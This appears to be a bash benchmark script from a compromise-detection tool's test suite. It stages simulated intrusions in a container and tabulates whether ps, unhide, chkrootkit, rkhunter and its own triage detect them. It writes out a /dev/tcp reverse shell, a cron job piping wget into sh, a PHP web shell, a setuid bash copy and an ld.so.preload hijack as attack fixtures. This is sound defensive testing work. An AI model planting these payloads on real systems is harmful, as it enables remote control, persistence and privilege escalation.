#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# tests/bench/peers.sh - the same attacks under Debian's unhide, chkrootkit and rkhunter and plain ps, each run as
# root inside the attacked container, as they are meant to be run. Prints a table in Markdown; not a test.
#
# A tool "sees" an attack if what it prints or logs names its PID or its path, apart from lines that only list
# (ps: a responder's eye on the row counts, so the row has to show that something is wrong).
# usage: tests/bench/peers.sh        needs ./build.sh image; minutes, the peers take their time
set -u
CSI_TOP=$(cd "$(dirname "$0")/../.." && pwd)
CSI_RUN=$CSI_TOP/out/test/run.$$
mkdir -p "$CSI_RUN/case/peers"
cd "$CSI_RUN/case/peers" || exit 1
export CSI_TOP CSI_RUN CSI_CASE=peers TARGET_UID=0 ROLE=ptrace LC_ALL=C.UTF-8 TZ=UTC
"$CSI_TOP/tests/helpers/build.sh" "$CSI_RUN/bin" && python3 "$CSI_TOP/tests/helpers/pod.py" images "$CSI_RUN" || exit 1
. "$CSI_TOP/tests/helpers/lib.sh"
# shellcheck source=tests/attacks/lib.sh
. "$CSI_TOP/tests/attacks/lib.sh"
leave() {
	[ -z "$POD" ] || python3 "$HELPERS/pod.py" down "$CSI_RUN" "$POD"
	cd "$CSI_TOP" && python3 "$HELPERS/pod.py" sweep "$CSI_RUN"
}
trap leave EXIT
attack_up

names=() subjects=()
did() { # NAME SUBJECT
	names+=("$1")
	subjects+=("$2")
}
start run /usr/local/bin/zzz standin && did "deleted executable" "$PID"
do_sh 'rm /usr/local/bin/zzz'
intrude memfd && did "executable in a memfd" "$PID"
start run /var/tmp/x standin && did "executable in /var/tmp" "$PID"
start masquerade && did "name of a kernel thread" "$PID"
start as /opt/kdevtmpfsi kdevtmpfsi kdevtmpfsi && did "kdevtmpfsi" "$PID"
start rwx && did "shell code in memory" "$PID"
start patch && did "patched code" "$PID"
start packet && did "packet socket" "$PID"
start listen 4444
sh_start "exec bash -c 'exec 3>&-; exec bash -i >&/dev/tcp/127.0.0.1/4444 0>&1'" && did "reverse shell" "$PID"
start standin && did "bind mount over /proc/PID" "$PID"
"$CSI_RUN/bin/target" over "$TPID" /proc/1 "/proc/$PID"
do_sh 'cp /usr/lib/*/libjemalloc.so.2 /etc/libsystem.so
	cp /bin/bash /usr/local/bin/bb && chmod 4755 /usr/local/bin/bb
	echo "* * * * * root wget -q -O - http://127.0.0.1/d.sh | sh" >/etc/cron.d/zzz
	mkdir -p /var/www/html && printf "<?php system(\$_GET[\"cmd\"]); ?>\n" >/var/www/html/up.php'
did "set-user-id shell" /usr/local/bin/bb
did "cron job" /etc/cron.d/zzz
did "web shell" /var/www/html/up.php
triage
do_sh 'echo /etc/libsystem.so >/etc/ld.so.preload'
triage
did "/etc/ld.so.preload" /etc/ld.so.preload

# For at most so long each, side by side; what did not end is told under the table.
LIMIT=${PEERS_SECONDS:-400}
within() { timeout -k 5 "$LIMIT" runc --root "$CSI_RUN/runc" exec "$TARGET_ID" "$@" </dev/null; }
tools="csi ps unhide chkrootkit rkhunter"
stopped=
ran() { # NAME CMD...
	local name=$1
	shift
	within "$@" >"$name.log" 2>&1
	[ $? -ne 124 ] || : >"$name.stopped"
}
ran ps ps auxww
ran unhide sh -c 'unhide procall; unhide sys' &
pids=($!)
ran chkrootkit chkrootkit &
pids+=($!)
ran rkhunter sh -c 'rkhunter --check --sk --nocolors --no-summary; cat /var/log/rkhunter.log' &
pids+=($!)
wait "${pids[@]}"
for tool in unhide chkrootkit rkhunter; do
	[ ! -e "$tool.stopped" ] || stopped+=" $tool"
done

# What a listing shows of itself: the row has a name or a path that speaks.
ps_sees() { awk -v pid="$1" '$2 == pid' ps.log | grep -qE 'kdevtmpfsi|/var/tmp/|bash -i|/dev/shm'; }
csi_sees() {
	case $1 in
	/etc/ld.so.preload) jq -es 'any(.[]; .rule.id == "ld-so-preload")' "$OUT" >/dev/null ;;
	*) [ -n "$(signs_of "$1" | awk -F'\t' '$2 != "info"')" ] ;;
	esac
}
tool_sees() { # TOOL SUBJECT
	case $2 in
	/etc/ld.so.preload) grep -E 'Warning: .*(ld\.so\.preload|libsystem\.so)|INFECTED.*ld\.so\.preload' "$1.log" | grep -q . ;;
	/*) grep -F "$2" "$1.log" | grep -viE 'not found|not infected|nothing|info:|checking' | grep -q . ;;
	# unhide: "Found HIDDEN PID: 18"; chkrootkit: "PID    18: not in readdir output"; rkhunter: "PID: 18"
	*) grep -E "PID:? *$2\\b" "$1.log" | grep -q . ;;
	esac
}
sees() {
	case $1 in
	csi) csi_sees "$2" ;;
	ps) ps_sees "$2" ;;
	*) tool_sees "$1" "$2" ;;
	esac
}

version() { within dpkg-query -W -f '${Version}' "$1"; }
printf '| attack | csi triage | ps | unhide %s | chkrootkit %s | rkhunter %s |\n' "$(version unhide)" "$(version chkrootkit)" "$(version rkhunter)"
printf '| --- | --- | --- | --- | --- | --- |\n'
for i in "${!names[@]}"; do
	printf '| %s ' "${names[i]}"
	for tool in $tools; do
		if sees "$tool" "${subjects[i]}"; then printf '| yes '; else printf '| - '; fi
	done
	printf '|\n'
done
[ -z "$stopped" ] || echo "Stopped after $LIMIT seconds, before they had ended:$stopped."
mkdir -p "$CSI_TOP/out/peers" && cp ./*.log "$OUT" "$CSI_TOP/out/peers/"
